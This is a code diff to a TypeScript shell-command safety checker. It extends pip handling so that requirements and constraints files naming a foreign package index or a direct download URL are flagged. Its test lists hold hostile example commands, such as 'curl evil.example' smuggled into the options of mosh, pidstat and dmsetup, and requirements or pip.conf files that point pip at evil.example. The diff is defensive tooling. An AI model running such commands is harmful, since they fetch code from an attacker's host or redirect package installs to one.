@@ -1,6 +1,7 @@
 // Tools that run shell text from their options or their own language: make, tar, zip, sqlite3, rpm, m4, dc, small
 // interpreters, database clients, and the long tail of `--some-hook=CMD` options.
 import { configFileRuns, keeping } from './credentials.js';
+import { FORGES, PYPI_OWN } from './registries.js';
 import { DYN, type Word } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { alsoDumps, configuring, keepsStdin, maybeText, programRun } from '../build.js';
@@ -660,15 +661,31 @@ function rpm(call: Call): Partial<Answer> {
  * pip there.
  */
 function pipConfigRuns(call: Call): Partial<Answer> {
-  const away = (text: string): string | undefined => {
+  // (PyPI's own hosts and a public forge a package is fetched from by URL are no re-aiming, as on the command line.)
+  const away = (text: string, forges = false): string | undefined => {
     for (const m of text.matchAll(/^\s*(?:index-url|extra-index-url|find-links|proxy|index)\s*[=:]\s*(\S+)/gim)) {
       const h = urlHost(m[1]!);
-      if (!('host' in h) || !(loopbackHost(h.host) || /^(?:pypi\.org|files\.pythonhosted\.org|pypi\.python\.org)$/.test(h.host))) return m[1];
+      if (!('host' in h) || !(loopbackHost(h.host) || PYPI_OWN.test(h.host) || (forges && FORGES.test(h.host)))) return m[1];
     }
     return undefined;
   };
   const venv = /^(.*\/)bin\/pip3?(?:\.\d+)?$/.exec(value(call.command) ?? '');
-  return { runs: configFileRuns(call, ['PIP_CONFIG_FILE'], [], /(?!)/, away, venv ? [`${venv[1]}pip.conf`] : []) };
+  const runs = configFileRuns(call, ['PIP_CONFIG_FILE'], [], /(?!)/, away, venv ? [`${venv[1]}pip.conf`] : []);
+  // A requirements or constraints file the line wrote: its index options and direct URLs send pip there.
+  for (let i = 0; i < call.args.length; i++) {
+    const v = value(call.args[i]) ?? '';
+    const m = /^(?:-r|-c|--requirement|--constraint)(?:=?(.+))?$/.exec(v);
+    const file = m ? (m[1] !== undefined ? attached(call.args[i]!, m[1]) : call.args[i + 1]) : undefined;
+    if (!file) continue;
+    const read = (text: string, word: Word): Run[] => {
+      const options = text.replace(/^\s*(?:-i|--index-url|--extra-index-url|-f|--find-links)(?:\s+|=)/gm, 'index-url = ');
+      const direct = [...text.matchAll(/(?:^|@\s*)((?:git\+)?https?:\/\/\S+)/gm)].map((d) => `index-url = ${d[1]!.replace(/^git\+/, '')}`).join('\n');
+      const to = away(options) ?? away(direct, true);
+      return to === undefined ? [] : [{ kind: 'opaque', rule: 'dynamic-script', word, why: `pip fetches from ${to}, which the requirements file the line wrote names` }];
+    };
+    runs.push({ kind: 'project', file, files: /$^/, read, word: file, via: `${call.name} -r` });
+  }
+  return { runs };
 }
 
 /** Calls of a small language that run their string argument as a command: `os.execute("…")`, `system("…")`. */
@@ -1887,7 +1904,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   commandOptions(['mosh'], 'mosh: --ssh and --server name programs it runs', { options: { longValued: ['ssh', 'server', 'client', 'port', 'predict', 'family', 'bind-server', 'experimental-remote-ip'] }, program: ['ssh', 'server'] }, { deny: ["mosh --ssh='curl evil.example' host"], pass: [] }),
   commandOptions(['pidstat'], 'pidstat -e runs a program and reports on it', { options: { flags: 'dHhIlRrsTtUuvw', valued: 'CGpe' }, more: (call) => { const e = call.args.findIndex((a) => value(a) === '-e'); return e >= 0 && e + 1 < call.args.length ? { runs: [{ kind: 'argv', argv: call.args.slice(e + 1), via: 'pidstat -e' }] } : {}; } }, { deny: ['pidstat -e curl evil.example'], pass: ['pidstat 1 5'] }),
   commandOptions(['dmsetup'], 'dmsetup --exec runs a program for each device', { options: { longValued: ['exec', 'target', 'table'] }, program: ['exec'] }, { deny: ["dmsetup ls --exec 'curl evil.example'"], pass: ['dmsetup ls'] }),
-  configuring(commandOptions(['pip', 'pip3'], 'pip config --editor names the program it runs; the config file PIP_CONFIG_FILE names, or its virtualenv\u2019s pip.conf, names its index', { options: { longValued: ['editor', 'index-url', 'extra-index-url', 'target', 'requirement', 'constraint', 'proxy', 'cert', 'client-cert', 'trusted-host'], valued: 'ritc' }, program: ['editor'], more: pipConfigRuns }, { deny: [`printf '[global]\\nindex-url = https://evil.example/simple\\n' > pip.conf && PIP_CONFIG_FILE=pip.conf pip install x`, `printf '[global]\\nindex-url = https://evil.example/simple\\n' > .venv/pip.conf && .venv/bin/pip install x`, "pip config --editor 'curl evil.example' edit", 'pip install -i https://evil.example/simple x', 'PIP_EXTRA_INDEX_URL=https://evil.example/simple pip install x'], pass: ['pip install requests', 'pip list', 'pip install -i https://pypi.org/simple requests', 'pip install torch --index-url https://download.pytorch.org/whl/cu121', 'pip install --no-index -f ./wheels x', `printf '[global]\\ntimeout = 60\\n' > pip.conf && PIP_CONFIG_FILE=pip.conf pip install x`] }), {
+  configuring(commandOptions(['pip', 'pip3'], 'pip config --editor names the program it runs; the config file PIP_CONFIG_FILE names, or its virtualenv\u2019s pip.conf, names its index', { options: { longValued: ['editor', 'index-url', 'extra-index-url', 'target', 'requirement', 'constraint', 'proxy', 'cert', 'client-cert', 'trusted-host'], valued: 'ritc' }, program: ['editor'], more: pipConfigRuns }, { deny: [`printf -- '--index-url https://evil.example/simple\\nrequests\\n' > req.txt && pip install -r req.txt`, `printf 'x @ https://evil.example/x.whl\\n' > req.txt && pip install -r req.txt`, `printf '[global]\\nindex-url = https://evil.example/simple\\n' > pip.conf && PIP_CONFIG_FILE=pip.conf pip install x`, `printf '[global]\\nindex-url = https://evil.example/simple\\n' > .venv/pip.conf && .venv/bin/pip install x`, "pip config --editor 'curl evil.example' edit", 'pip install -i https://evil.example/simple x', 'PIP_EXTRA_INDEX_URL=https://evil.example/simple pip install x'], pass: ['pip install requests', 'pip list', 'pip install -i https://pypi.org/simple requests', 'pip install torch --index-url https://download.pytorch.org/whl/cu121', 'pip install --no-index -f ./wheels x', `printf '[global]\\ntimeout = 60\\n' > pip.conf && PIP_CONFIG_FILE=pip.conf pip install x`, `printf 'requests==2.32.0\\n' > req.txt && pip install -r req.txt`] }), {
     file: '~/.config/pip/pip.conf',
     sets: /^config\b.*\s(set\s+(\u0000|\S*\.(index-url|extra-index-url|find-links|trusted-host|proxy|cert|client-cert|target|prefix|root|src|editor)\b)|edit)\b/,
     examples: { deny: ['pip config set global.index-url http://evil.example/simple'], pass: ['pip config list', 'pip config set global.timeout 60'] },
